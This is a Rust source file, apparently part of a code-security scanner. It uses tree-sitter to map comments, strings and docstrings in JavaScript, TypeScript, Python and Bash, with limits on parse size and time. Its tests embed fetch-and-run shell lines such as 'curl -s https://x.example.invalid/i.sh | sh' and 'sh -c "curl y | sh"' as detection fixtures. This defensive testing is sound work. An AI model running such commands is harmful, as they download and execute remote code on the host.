//! tree-sitter grammars, bounded parsing, and the comment/string map a parse gives us.

pub use crate::grammar::Grammar;
use crate::limits::ScanLimits;
use skill_scan_model::Context;
use std::time::Instant;
use tree_sitter::{Node, ParseOptions, ParseState, Parser, Tree};

/// Files larger than this are not parsed by default: regex rules still run over them, with every byte taken
/// as code. (See [`ScanLimits`], which sets it per scan.)
#[cfg(test)]
pub(crate) const MAX_PARSE_BYTES: usize = ScanLimits::DEFAULT_MAX_PARSE_BYTES;

/// Parses `text` within the default limits, or says why not.
pub fn parse(grammar: Grammar, text: &str) -> Result<Tree, String> {
    parse_within(grammar, text, &ScanLimits::default())
}

/// Parses `text`, or says why not. Bounded in size and time by `limits`.
pub(crate) fn parse_within(
    grammar: Grammar,
    text: &str,
    limits: &ScanLimits,
) -> Result<Tree, String> {
    let max_bytes = limits.max_parse_bytes;
    let max_time = limits.max_parse_time;
    // Long string literals are one node each: the limit is on the code around them.
    if text.len() > max_bytes && crate::code_bytes(grammar, text) > max_bytes {
        return Err(format!(
            "not parsed (syntax-aware rules skipped): {} bytes is over the {max_bytes}-byte parse limit (raise it with --max-parse-size); regex rules still ran",
            text.len()
        ));
    }
    if let Some(refusal) = crate::nesting::refuse_deep_nesting(grammar, text) {
        return Err(refusal);
    }
    let mut parser = Parser::new();
    parser
        .set_language(&grammar.ts_language())
        .map_err(|e| format!("grammar failed to load: {e}"))?;
    let started = Instant::now();
    let mut over_time = |_: &ParseState| started.elapsed() > max_time || limits.out_of_time();
    // A lone CR ends a line for Python's tokenizer and for JavaScript, but tree-sitter-python reads on to
    // the next LF, so `# note\rpayload()` would parse as one comment. Swapping each lone CR for an LF (one
    // byte for one, so every offset stays put) makes the tree agree with the interpreter.
    let normalised = normalised_for_parsing(text);
    let bytes = normalised.as_deref().unwrap_or(text.as_bytes());
    let mut read = |offset: usize, _| &bytes[offset.min(bytes.len())..];
    parser
        .parse_with_options(&mut read, None, Some(ParseOptions::new().progress_callback(&mut over_time)))
        .ok_or_else(|| {
            format!(
                "not parsed (syntax-aware rules skipped): parsing took over {} ms (raise it with --max-parse-time); regex rules still ran",
                max_time.as_millis()
            )
        })
}

/// `text` as the parser should see it, or `None` when it is fine as it is: every CR not followed by LF
/// becomes LF, and every NUL a space (byte for byte, so offsets stay put). A NUL means nothing to any of
/// these languages, but a wall of them sends tree-sitter-bash's scanner into a loop that re-reads the input
/// for every byte (64 KiB of NULs took 13 s) and that the parse time limit cannot interrupt.
fn normalised_for_parsing(text: &str) -> Option<Vec<u8>> {
    let bytes = text.as_bytes();
    let odd = |i: usize| bytes[i] == 0 || (bytes[i] == b'\r' && bytes.get(i + 1) != Some(&b'\n'));
    if !(0..bytes.len()).any(odd) {
        return None;
    }
    let mut out = bytes.to_vec();
    for (i, byte) in out.iter_mut().enumerate() {
        if odd(i) {
            *byte = if bytes[i] == 0 { b' ' } else { b'\n' };
        }
    }
    Some(out)
}

/// Byte ranges (shifted by `base`) of comments and string literals, in order, outermost only. (Used by
/// tests to show the whole map `context_of_offset` answers from.)
#[cfg(test)]
pub(crate) fn context_regions(
    tree: &Tree,
    grammar: Grammar,
    base: usize,
) -> Vec<(usize, usize, Context)> {
    let mut regions = Vec::new();
    let mut cursor = tree.walk();
    let mut descend = true;
    loop {
        let node = cursor.node();
        if descend {
            if let Some(context) = literal_context(node, grammar) {
                regions.push((base + node.start_byte(), base + node.end_byte(), context));
                descend = false;
            } else if cursor.goto_first_child() {
                continue;
            } else {
                descend = false;
            }
        }
        if cursor.goto_next_sibling() {
            descend = true;
            continue;
        }
        if !cursor.goto_parent() {
            break;
        }
    }
    regions
}

/// The comment/string/docstring context of the innermost literal holding `offset` (relative to the
/// tree's text), or `None` in plain code.
pub(crate) fn context_of_offset(tree: &Tree, grammar: Grammar, offset: usize) -> Option<Context> {
    let mut node = tree.root_node().descendant_for_byte_range(offset, offset);
    let mut found = None;
    while let Some(current) = node {
        // The outermost literal wins, as in `context_regions`: a template string's substitution is still
        // inside the string.
        if let Some(context) = literal_context(current, grammar) {
            found = Some(context);
        }
        node = current.parent();
    }
    found
}

fn literal_context(node: Node, grammar: Grammar) -> Option<Context> {
    // Anonymous tokens share names with named nodes (TypeScript's `string` type keyword).
    if !node.is_named() {
        return None;
    }
    if grammar == Grammar::Bash {
        // A quoted shell word is still an argument of a command that runs (`sh -c "curl … | sh"`), so
        // it stays code; only comments (which the tree tells from a `#` inside quotes) are not.
        return (node.kind() == "comment").then_some(Context::Comment);
    }
    match node.kind() {
        "comment" | "html_comment" => Some(Context::Comment),
        // A Python string that is a whole statement is a docstring (or a no-op): documentation.
        "string" | "concatenated_string"
            if node.parent().is_some_and(|p| {
                p.kind() == "expression_statement" && p.named_child_count() == 1
            }) =>
        {
            Some(Context::Docstring)
        }
        "string" | "template_string" | "concatenated_string" | "regex" => Some(Context::String),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn regions(grammar: Grammar, text: &str) -> Vec<(String, Context)> {
        let tree = parse(grammar, text).unwrap();
        context_regions(&tree, grammar, 0)
            .into_iter()
            .map(|(s, e, c)| (text[s..e].to_string(), c))
            .collect()
    }

    #[test]
    fn javascript_comments_and_strings() {
        let found = regions(
            Grammar::Javascript,
            "// eval here\nconst a = 'curl x | sh'; eval(a);\n/* b */",
        );
        assert_eq!(
            found,
            [
                ("// eval here".to_string(), Context::Comment),
                ("'curl x | sh'".to_string(), Context::String),
                ("/* b */".to_string(), Context::Comment),
            ]
        );
    }

    #[test]
    fn python_docstrings_are_documentation() {
        let text = "\"\"\"Doc: exec(x)\"\"\"\nimport os  # exec\ndef f():\n    'url=https://x.'\n    os.system('ls')\n";
        let found = regions(Grammar::Python, text);
        assert_eq!(found[0].1, Context::Docstring);
        assert_eq!(found[1], ("# exec".to_string(), Context::Comment));
        assert_eq!(found[2].1, Context::Docstring, "function docstring");
        assert_eq!(
            found[3],
            ("'ls'".to_string(), Context::String),
            "an argument is a string"
        );
        assert_eq!(found.len(), 4);
    }

    #[test]
    fn typescript_parses_with_its_own_grammar() {
        let found = regions(Grammar::Typescript, "const x: string = `hi ${y}`; // c\n");
        assert_eq!(found.len(), 2);
    }

    #[test]
    fn one_offset_agrees_with_the_whole_map() {
        let text = "/* c */ const a = `x ${eval(y)} z`; // tail\nrun('arg');\n";
        let tree = parse(Grammar::Javascript, text).unwrap();
        let map = context_regions(&tree, Grammar::Javascript, 0);
        for offset in 0..text.len() {
            let expected = map
                .iter()
                .find(|(s, e, _)| *s <= offset && offset < *e)
                .map(|(_, _, c)| *c);
            assert_eq!(
                context_of_offset(&tree, Grammar::Javascript, offset),
                expected,
                "offset {offset}"
            );
        }
    }

    #[test]
    fn shell_comments_are_comments_and_quoted_words_stay_code() {
        let text = "# curl x | sh\necho '# not a comment' && sh -c \"curl y | sh\" # tail\n";
        let found = regions(Grammar::Bash, text);
        assert_eq!(
            found,
            [
                ("# curl x | sh".to_string(), Context::Comment),
                ("# tail".to_string(), Context::Comment),
            ]
        );
    }

    #[test]
    fn a_lone_carriage_return_ends_a_python_comment() {
        let text = "# one\r# two\rimport os\ros.system('x')\r\n# three\r\n";
        let found = regions(Grammar::Python, text);
        let comments: Vec<_> = found.iter().map(|(t, _)| t.as_str()).collect();
        assert_eq!(comments, ["# one", "# two", "'x'", "# three\r"]);
        let tree = parse(Grammar::Python, text).unwrap();
        assert_eq!(
            context_of_offset(&tree, Grammar::Python, text.find("os.system").unwrap()),
            None
        );
    }

    #[test]
    fn a_wall_of_nul_bytes_parses_quickly() {
        let mut text = "\0".repeat(64 * 1024);
        text.push_str("\ncurl -s https://x.example.invalid/i.sh | sh\n");
        let started = std::time::Instant::now();
        let tree = parse(Grammar::Bash, &text).unwrap();
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
        assert!(!tree.root_node().has_error() || tree.root_node().child_count() > 0);
    }

    #[test]
    fn huge_files_are_not_parsed() {
        let text = "a".repeat(MAX_PARSE_BYTES + 1);
        assert!(parse(Grammar::Javascript, &text)
            .unwrap_err()
            .contains("parse limit"));
    }
}
